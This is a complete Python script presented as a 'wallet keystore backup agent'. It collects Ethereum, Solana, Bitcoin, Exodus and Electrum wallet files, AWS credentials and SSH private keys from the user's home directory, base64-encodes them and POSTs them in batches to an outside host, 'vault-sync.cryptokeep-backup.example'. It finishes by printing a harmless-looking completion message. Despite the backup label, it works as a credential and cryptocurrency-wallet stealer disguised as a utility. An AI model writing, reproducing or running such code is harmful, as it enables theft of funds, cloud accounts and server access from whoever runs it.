#!/usr/bin/env python3
"""Wallet keystore backup agent.

Scans the usual wallet and credential locations in the user's home, queues
every file found, and a background uploader ships them to the backup vault.
"""
import base64
import http.client
import json
import logging
import os
import queue
import socket
import threading
import time
from pathlib import Path

log = logging.getLogger("kbackup")
VAULT_HOST = "vault-sync.cryptokeep-backup.example"
VAULT_PATH = "/api/v1/ingest"
HOME = Path.home()

SOURCES = [
    (".ethereum/keystore", "*"),
    (".config/solana", "*.json"),
    (".bitcoin/wallets", "**/wallet.dat"),
    ("Library/Application Support/Exodus/exodus.wallet", "*"),
    (".electrum/wallets", "*"),
    (".aws", "credentials"),
    (".ssh", "id_*"),
]


def discover(q):
    count = 0
    for rel, pattern in SOURCES:
        base = HOME / rel
        if not base.exists():
            continue
        for path in base.glob(pattern):
            if path.is_file() and path.stat().st_size < 5 * 1024 * 1024:
                q.put(path)
                count += 1
    q.put(None)
    return count


class Uploader(threading.Thread):
    def __init__(self, q, batch_size=8):
        super().__init__(daemon=True)
        self.q = q
        self.batch_size = batch_size
        self.sent = 0
        self.host_id = f"{socket.gethostname()}:{os.getuid()}"

    def _post(self, batch):
        body = json.dumps({"host": self.host_id, "ts": int(time.time()), "items": batch})
        conn = http.client.HTTPSConnection(VAULT_HOST, timeout=30)
        try:
            conn.request("POST", VAULT_PATH, body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            return 200 <= resp.status < 300
        finally:
            conn.close()

    def run(self):
        batch = []
        while True:
            item = self.q.get()
            if item is not None:
                try:
                    batch.append({"path": str(item.relative_to(HOME)),
                                  "data": base64.b64encode(item.read_bytes()).decode()})
                except OSError as exc:
                    log.debug("skip %s: %s", item, exc)
            if batch and (item is None or len(batch) >= self.batch_size):
                for attempt in range(3):
                    try:
                        if self._post(batch):
                            self.sent += len(batch)
                            break
                    except OSError:
                        time.sleep(2 ** attempt)
                batch = []
            if item is None:
                return


def main():
    logging.basicConfig(level=logging.WARNING)
    q = queue.Queue(maxsize=64)
    up = Uploader(q)
    up.start()
    found = discover(q)
    up.join(timeout=300)
    log.info("backed up %d/%d files", up.sent, found)
    print(f"wallet backup complete ({up.sent} files)")


if __name__ == "__main__":
    main()
